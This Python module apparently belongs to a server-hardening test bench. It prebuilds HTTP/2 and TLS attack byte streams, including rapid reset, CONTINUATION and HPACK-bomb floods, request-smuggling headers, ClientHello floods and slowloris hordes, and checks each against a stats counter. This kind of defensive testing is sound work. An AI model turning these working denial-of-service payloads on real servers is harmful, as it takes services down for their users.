"""The attacks: bytes that are sent on a connection repeatedly. They are prepared once, so that attacking costs little CPU."""

import ssl
import struct
from dataclasses import dataclass

from . import frames as f, hordes

OPENING = f.PREFACE + f.settings()
ATTACK = f.head("GET", "/attack")
UPLOAD = f.head("POST", "/attack")


@dataclass
class Attack:
    """One attack.

    Every connection of it sends `bytes` and then waits until the server ends it, `timeout` seconds at most.
    """
    bytes: bytes
    counter: str                # the counter of /stats that should increase, or ""
    timeout: float = 0.05
    tls: bool = False           # on the TLS port; `bytes` are sent in place of a handshake
    handshakes: bool = False    # whole handshakes, no bytes at all
    together: int = 1           # connections held at once by one attacker
    port: str = ""              # of the stage, if it is not that of http or https
    horde: hordes.Horde = None  # many connections in place of the above
    seconds: float = 0          # of a slice, and slices; 0: as the command says
    slices: int = 0


def odd(count, first=1):
    return range(first, first + 2 * count, 2)


def flood(kind, payload=b"", times=3000, flags=0, stream=0):
    return OPENING + f.frame(kind, flags, stream, payload) * times


def continuations():
    """A header block without an end (CVE-2024-27316)."""
    piece = f.field("x-a", b"a" * 400)
    return OPENING + f.frame(f.HEADERS, f.END_STREAM, 1, ATTACK) + f.frame(f.CONTINUATION, 0, 1, piece) * 1000


def split_heads():
    """Header blocks within all limits, in unnecessarily many frames."""
    size = len(ATTACK) // 7 + 1
    pieces = [ATTACK[i:i + size] for i in range(0, len(ATTACK), size)]
    sent = b""
    for stream in odd(200):
        sent += f.frame(f.HEADERS, f.END_STREAM, stream, pieces[0])
        for piece in pieces[1:-1]:
            sent += f.frame(f.CONTINUATION, 0, stream, piece)
        sent += f.frame(f.CONTINUATION, f.END_HEADERS, stream, pieces[-1]) + f.reset(stream)
    return OPENING + sent


def bomb():
    """A long field is added to the dynamic table once, then repeated by one byte each (RFC 7541 section 6.1)."""
    block = ATTACK + f.field("x-a", b"a" * 4000, indexed=True) + b"\xbe" * 12000
    return OPENING + f.request(1, block)


def quiet_bomb():
    """The same within the limits of each head: small requests whose heads decode to much text."""
    first = ATTACK + f.field("x-a", b"a" * 4000, indexed=True)
    return OPENING + f.request(1, first) + b"".join(f.request(s, ATTACK + b"\xbe" * 14) for s in odd(500, 3))


def long_list(count, length):
    block = ATTACK + b"".join(f.field(f"x-{i}", b"a" * length) for i in range(count))
    sent = b""
    for stream in odd(20):
        pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        for index, piece in enumerate(pieces):
            flags = (f.END_STREAM if index == 0 else 0) | (f.END_HEADERS if index == len(pieces) - 1 else 0)
            sent += f.frame(f.CONTINUATION if index else f.HEADERS, flags, stream, piece)
    return OPENING + sent


def stalls(streams):
    """Streams with a large response each, whose windows are not opened."""
    big = f.head("GET", "/attack/big")
    return f.PREFACE + f.settings((4, 0)) + b"".join(f.request(stream, big) for stream in odd(streams))


def malformed():
    """Invalid fields; pseudo-header fields that are duplicated, late, missing or unknown (RFC 9113 section 8.3)."""
    bad = [
        f.head("GET", "/attack", ("X-Upper", "a")), f.head("GET", "/attack", ("connection", "close")),
        f.head("GET", "/attack", (":path", "/late")), f.head("GET", "/attack", (":unknown", "a")),
        f.field(":method", "GET") + f.field(":scheme", "https"), f.field(":path", "/") * 2 + ATTACK,
        f.head("GET", "no-slash"), f.head("GET", ""), f.head("GET", "/attack", ("te", "gzip")),
    ]
    return OPENING + b"".join(f.request(stream, bad[stream // 2 % len(bad)]) for stream in odd(600))


def smuggling():
    """Request smuggling: fields that a server might parse as another request."""
    inside = b"a\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: bench\r\n\r\n"
    bad = [
        f.head("POST", "/attack", ("transfer-encoding", "chunked")), f.head("POST", "/attack", ("x", inside)),
        f.head("GET", "/attack", ("x", b"a\0b")), f.head("GET", "/attack", ("x\r\ny", "z")),
        f.head("GET", b"/attack HTTP/1.1\r\nx: y"), f.head("GET", "/attack", authority=b"bench\r\nx: y"),
        f.head("GET", "/attack", ("host", "other")), f.head(b"GET /smuggled HTTP/1.1\r\n\r\nGET", "/attack"),
    ]
    sent = b""
    for stream in odd(600):
        if stream % 9 == 1:
            # More DATA than was announced (RFC 9113 section 8.1.1).
            short = f.head("POST", "/attack", ("content-length", "3"))
            sent += f.request(stream, short, ends=False) + f.frame(f.DATA, f.END_STREAM, stream, inside)
        else:
            sent += f.request(stream, bad[stream // 2 % len(bad)])
    return OPENING + sent


def hello():
    """A ClientHello that asks for a full handshake, as OpenSSL sends it; the attacker only has to send it."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    half = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        half.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def all_of_them():
    """The attacks by name, in the order of the table."""
    ping, update = b"\1" * 8, struct.pack(">I", 1)
    post = OPENING + f.request(1, UPLOAD, ends=False)
    gone = post + f.reset(1)
    return {
        "rapid reset": Attack(OPENING + b"".join(f.request(s, ATTACK) + f.reset(s) for s in odd(1000)), "resets"),
        "too many streams": Attack(OPENING + b"".join(f.request(s, UPLOAD, False) for s in odd(2000)), "refusals"),
        "CONTINUATION without end": Attack(continuations(), "continuations"),
        "heads in many pieces": Attack(split_heads(), "continuations"),
        "SETTINGS flood": Attack(flood(f.SETTINGS, struct.pack(">HI", 4, 65535)), "settings"),
        "PING flood": Attack(flood(f.PING, ping), "pings"),
        "empty DATA flood": Attack(post + f.frame(f.DATA, 0, 1) * 3000, "empty_data"),
        "PRIORITY flood": Attack(OPENING + b"".join(f.frame(f.PRIORITY, 0, s, b"\0\0\0\0\xff") for s in odd(3000)),
                                 "priorities"),
        "WINDOW_UPDATE flood": Attack(flood(f.WINDOW_UPDATE, update, times=6000), "window_updates"),
        "unknown frames": Attack(flood(0x20, b"abc"), "ignored_frames"),
        "frames on a gone stream": Attack(gone + f.frame(f.DATA, 0, 1, b"a") * 3000, "ignored_frames"),
        "HPACK bomb": Attack(bomb(), "header_lists"),
        "HPACK bomb within limits": Attack(quiet_bomb(), "head_text"),
        "header list answered 431": Attack(long_list(6, 15000), "large_heads"),
        "header list far beyond": Attack(long_list(600, 10), "header_lists"),
        "one field of 70 KiB": Attack(long_list(1, 70000), "broken_connections"),
        "256 windows never opened": Attack(stalls(256), "stalled_streams", timeout=3, together=4),
        "200 connections with a shut window": Attack(stalls(1), "stalled_streams", timeout=3, together=100),
        "malformed requests": Attack(malformed(), "malformed_requests"),
        "smuggling": Attack(smuggling(), "malformed_requests"),
        "HPACK bomb within limits, connection_opens": Attack(quiet_bomb(), "", port="guarded"),
        "ClientHello flood": Attack(hello(), "failed_handshakes", tls=True, together=16),
        "ClientHello flood, connection_opens": Attack(hello(), "", tls=True, together=16, port="guarded_https"),
        "full handshakes": Attack(b"", "", handshakes=True, tls=True),
        "full handshakes, connection_opens": Attack(b"", "", handshakes=True, tls=True, port="guarded_https"),
        "GOAWAY and back at once": Attack(flood(f.SETTINGS, b"", times=52), "settings"),
    } | {name: horde_attack(name, horde) for name, horde in all_hordes().items()}


def all_hordes():
    return (hordes.slow_http1(2000) | hordes.slow_http2(2000) | hordes.storms(1000) | hordes.floods(10_000) | hordes.noise()
            | hordes.stalled_handshakes(hello(), 1000))


def horde_attack(name, horde):
    """Slow ones need slices that are longer than the timeouts that end them; the floods are as long as asked for."""
    if "initialize" in name:
        return Attack(b"", "", horde=horde, seconds=20, slices=1)
    return Attack(b"", "", horde=horde, seconds=8 if "Slowloris" in name or "slow" in name else 5, slices=3)
